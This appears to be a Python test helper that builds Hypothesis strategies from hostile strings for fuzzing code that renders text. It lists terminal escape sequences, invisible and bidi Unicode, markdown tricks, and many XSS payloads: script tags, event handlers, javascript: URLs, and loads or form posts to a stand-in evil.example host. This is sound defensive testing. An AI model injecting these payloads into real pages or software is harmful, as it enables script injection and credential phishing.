"""Hostile words for the tests of whatever shows data: known attacks, and strategies built on them."""

from __future__ import annotations

from hypothesis import strategies as st

#: Spelled in escapes, so that no editor hides what they are.
ATTACKS = (
    "\x1b[31mred\x1b[0m",
    "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "\x1b]0;title\x07",
    "\x9b2Jgone",
    "over\rwritten",
    "back\x08space\x7f",
    "nul\x00",
    "\u202eright to left\u202c",
    "\u2066isolate\u2069\u200f",
    "zero\u200bwidth\u2060\ufeff",
    "soft\xadhyphen",
    "line\u2028paragraph\u2029",
    "hidden\U000e0049\U000e0047\U000e004e",
    "selectors\ufe0f\ufe01\U000e0101",
    "\ufff9annotated\ufffb",
    "icon\ue0a0\U000f0001\ufdd0\U0001ffff",
    "[red]markup[/red] [/] [link=https://evil.example]x[/link]",
    "[bold",
    ":smiley: :warning:",
    "# heading",
    "heading #",
    "***",
    "---",
    "- - -",
    "===",
    "___bold___ _it_ a_b",
    "_",
    "- item",
    "+ item",
    "1. item",
    "2) item",
    "> quote",
    "```",
    "~~~ python",
    "``code``",
    "`",
    "<script>alert(1)</script>",
    "<!-- comment",
    "<https://evil.example>",
    "https://evil.example www.evil.example",
    "[text](https://evil.example)",
    "![image](https://evil.example/x.png)",
    "[3, 7]: https://evil.example",
    "[1]: https://evil.example",
    "[ ] task",
    "&amp; &lt; &#27; &copy",
    "a | b",
    "| --- | :-: |",
    "back\\slash \\* \\",
    "~~struck~~",
    "*emphasis* **strong**",
    "\tcode",
    "    code",
    "two\nlines",
    "two\n\nparagraphs\n\n# heading",
    "two\r\n---",
    "{{ 7*7 }} {% raw %}",
    "日本語の文章、とても長いので折り返しが必要です。",
    "שלום עולם",
    "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645",
    "e\u0301\u0327 Z\u0336\u0336\u0336algo",
    "\U0001f469\U0001f3fd\u200d\u2695\ufe0f \u2764\ufe0f",
    "✓ supported",
    "x" * 150,
)

#: What runs, loads, or breaks out of its place where a page takes it for markup; the page would tell by `owned`.
MARKUP = (
    "<script>owned()</script>",
    "</script><script>owned()</script>",
    "</style><script>owned()</script>",
    "</title><script>owned()</script>",
    "</bdi></p></li></ul></main><h1>Another brief</h1>",
    "--><script>owned()</script><!--",
    "]]><script>owned()</script><![CDATA[",
    "<img src=x onerror=owned()>",
    "<IMG SRC=//evil.example/x.png>",
    "<svg onload=owned()><use href=data:image/svg+xml,x#y></svg>",
    "</text></svg><script>owned()</script>",
    "<svg><style><img src=x onerror=owned()></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=owned()>",
    '<noscript><p title="</noscript><img src=x onerror=owned()>">',
    "<template><script>owned()</script></template>",
    "<select><option><style></option></select><img src=x onerror=owned()></style>",
    "<iframe srcdoc='<script>parent.owned()</script>'></iframe>",
    "<iframe src=javascript:owned()></iframe>",
    "<object data=//evil.example/x></object><embed src=//evil.example/x>",
    "<link rel=stylesheet href=//evil.example/x.css><link rel=prefetch href=//evil.example/x>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example/><button>Log in</button></form>",
    "<input autofocus onfocus=owned()>",
    "<details open ontoggle=owned()>",
    "<video><source onerror=owned()></video><audio src=//evil.example/x autoplay>",
    "<body onload=owned()>",
    "<a href=javascript:owned() id=s1 class=st data-evidence=1>x</a>",
    "<style>@import url(//evil.example/x.css);*{display:none}</style>",
    "<div style=background:url(//evil.example/x)>",
    '" onmouseover="owned()" x="',
    "' onfocus='owned()' autofocus='",
    '"><script>owned()</script>',
    "` onload=owned() `",
    "javascript:owned()",
    "data:text/html,<script>owned()</script>",
    "java\tscript:owned()",
    "//evil.example/x",
    "#s1",
    "&lt;script&gt;owned()&lt;/script&gt; &#60;img src=x onerror=owned()&#62;",
    "\u003cscript\u003eowned()\u003c/script\u003e",
    "+ADw-script+AD4-owned()+ADw-/script+AD4-",
    "\ufeff<script>owned()</script>",
    "<\x00script>owned()</script>",
    "<scr\u2028ipt>owned()</script>",
    "{{ ''.__class__ }}{% include 'style.css' %}{# #}",
    "constructor",
    "__proto__",
)

_BITS = st.sampled_from(
    [*"*_`~[]()<>!#-+=|:&;\\\"'{}.1a \n\t\x1b\x9b\u202e\u200d\ufe0f\xa0\u3000", "://", "www.", "  \n"]
)


def texts(*, surrogates: bool = False) -> st.SearchStrategy[str]:
    """Give known attacks, joined attacks, punctuation soup and any characters at all; never only spaces."""
    categories = () if surrogates else ("Cs",)
    anything = st.text(st.characters(exclude_categories=categories), min_size=1, max_size=40)
    soup = st.lists(_BITS, min_size=1, max_size=25).map("".join)
    joined = st.tuples(st.sampled_from(ATTACKS), soup).map("".join)
    return (
        st.one_of(st.sampled_from(ATTACKS), joined, soup, anything)
        .filter(lambda text: bool(text.strip()))
        .map(lambda text: text[:190])
    )
